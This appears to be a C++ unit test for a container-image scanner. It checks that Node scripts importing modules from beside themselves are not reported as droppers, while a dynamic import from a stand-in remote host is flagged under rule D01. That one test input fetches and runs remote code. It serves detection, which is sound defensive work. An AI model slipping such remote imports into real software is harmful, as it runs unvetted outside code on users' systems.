// Honest programs that a start command reaches: what looks like a dropper in parts of them is none.
#include <gtest/gtest.h>

#include <string>

#include "detect/image_builder.hpp"

namespace hullcheck::detect {
namespace {

std::string threats_of(const std::string& name, const std::string& text, std::vector<std::string> command) {
  ImageBuilder image;
  image.file("app/" + name, text);
  image.config().working_dir = "/app";
  image.config().cmd = std::move(command);
  std::string said;
  for (const auto& threat : image.assess().threats)
    said += threat.rule + " " + (threat.evidence.empty() ? "" : threat.evidence[0]) + "\n";
  return said;
}

// An address that a script makes was taken for what lies there.
TEST(HonestStarts, AModuleBesideTheScriptIsNotFetched) {
  const auto threats = [](const std::string& code) {
    return threats_of("main.mjs", "import { Worker } from 'worker_threads';\n" + code, {"node", "main.mjs"});
  };
  EXPECT_EQ(threats("new Worker(new URL('./worker.mjs', import.meta.url));\n"), "");
  EXPECT_EQ(threats("await import(new URL(`./${name}.mjs`, import.meta.url).href);\n"), "");
  EXPECT_NE(threats("await import(new URL('https://dl.example.com/x.mjs'));\n").find("D01"), std::string::npos);
}

}  // namespace
}  // namespace hullcheck::detect
